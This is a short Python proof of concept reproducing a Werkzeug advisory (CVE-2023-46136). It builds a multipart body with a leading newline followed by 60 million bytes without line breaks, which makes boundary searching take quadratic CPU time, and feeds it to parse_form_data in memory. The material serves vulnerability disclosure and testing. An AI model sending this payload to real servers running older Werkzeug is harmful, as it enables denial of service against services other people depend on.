# PYSEC-2023-221 (CVE-2023-46136): Werkzeug before 2.3.8, a multipart file part that starts with CR or LF followed
# by megabytes without them is appended chunk by chunk to a buffer that is searched for the boundary each time:
# quadratic CPU time.
import io

from werkzeug.formparser import parse_form_data

boundary = "reproduction"
body = (
    f"--{boundary}\r\n"
    'Content-Disposition: form-data; name="file"; filename="a.txt"\r\n'
    "Content-Type: application/octet-stream\r\n\r\n"
    "\n" + "x" * 60_000_000 + f"\r\n--{boundary}--\r\n"
).encode()
environ = {
    "REQUEST_METHOD": "POST",
    "CONTENT_TYPE": f"multipart/form-data; boundary={boundary}",
    "CONTENT_LENGTH": str(len(body)),
    "wsgi.input": io.BytesIO(body),
}
parse_form_data(environ)
